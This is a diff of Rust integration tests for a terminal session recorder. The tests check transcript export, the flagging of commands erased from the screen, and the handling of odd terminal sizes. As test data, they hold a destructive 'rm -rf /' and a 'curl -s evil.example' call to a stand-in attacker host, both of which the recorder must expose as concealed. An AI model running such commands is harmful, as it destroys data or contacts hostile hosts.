@@ -195,7 +195,12 @@ fn exports() {
     let o = sessrec(&t.join("records"), &["export", &target, "--format", "text"]);
     let out = text(&o);
     assert!(out.contains("$ echo hello-42\nhello-42"), "{out}");
-    assert!(!out.contains("rm -rf"), "erased on screen: {out}");
+    // Erased on screen, so kept in the transcript with a mark, once.
+    assert!(
+        out.contains("$ rm -rf /\n[erased: the line above was removed from the screen here]"),
+        "{out}"
+    );
+    assert_eq!(out.matches("rm -rf").count(), 1, "{out}");
     let o = sessrec(
         &t.join("records"),
         &["export", &target, "--format", "text", "--typed"],
@@ -401,9 +406,10 @@ fn show_flags_concealed_commands_and_echo_mismatch() {
         line("curl -s evil.example").contains("concealed: erased from the screen"),
         "{out}"
     );
-    let cd = line("$ cd /us");
+    // Resolved from the screen, with the keys beside it.
+    let cd = line("$ cd /usr/");
     assert!(
-        cd.contains("guess: tab completion") && cd.contains("screen showed \"cd /usr/\""),
+        cd.contains("completed on screen; keys: \"cd /us\"") && !cd.contains("guess"),
         "{cd}"
     );
     assert!(!line("$ echo visible").contains('['), "{out}");
@@ -478,4 +484,53 @@ fn unattributed_sudo_sessions_and_list_verify() {
     std::fs::write(&ch, edited).unwrap();
     let o = sessrec(&t.join("records"), &["list", "--verify"]);
     assert!(text(&o).contains(",DAMAGED"), "{}", text(&o));
+}
+
+/// The recorded user sizes their terminal: a pty no one sized (0×0, as `ssh -tt host cmd
+/// </dev/null` gives), one row, or 65535 columns must not stop any view.
+#[test]
+fn any_terminal_size_the_user_recorded_is_shown() {
+    let t = TempDir::new("sizes");
+    let records = t.join("records");
+    let id = id_at(1_764_000_000_000).unwrap();
+    let mut s = SynthSession::login(
+        &records,
+        id,
+        "srt-alice",
+        "alice@example.com",
+        "203.0.113.7",
+    )
+    .unwrap();
+    let mut ch = s.channel("shell", "pty", None).unwrap();
+    let mut t_us = 100_000;
+    for (cols, rows) in [(0u32, 0u32), (80, 1), (1, 24), (u32::MAX, u32::MAX)] {
+        ch.event(
+            "resize",
+            serde_json::json!({"cols": cols, "rows": rows, "off": t_us}),
+        )
+        .unwrap();
+        ch.typed(
+            &mut t_us,
+            "$ ",
+            "echo wide-\u{4e2d}-text",
+            "wide-\u{4e2d}-text\n",
+        )
+        .unwrap();
+    }
+    s.finished(ch, 0).unwrap();
+    s.logout().unwrap();
+    let session = id.to_string();
+    for args in [
+        vec!["show", session.as_str()],
+        vec!["export", "--format", "text", session.as_str()],
+        vec!["export", "--format", "asciicast-v3", session.as_str()],
+        vec!["play", "--speed", "1000", session.as_str()],
+    ] {
+        let o = sessrec(&records, &args);
+        let stderr = String::from_utf8_lossy(&o.stderr);
+        assert!(o.status.success(), "{args:?}: {stderr}");
+        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
+    }
+    let o = sessrec(&records, &["export", "--format", "text", &session]);
+    assert!(text(&o).contains("wide-\u{4e2d}-text"), "{}", text(&o));
 }
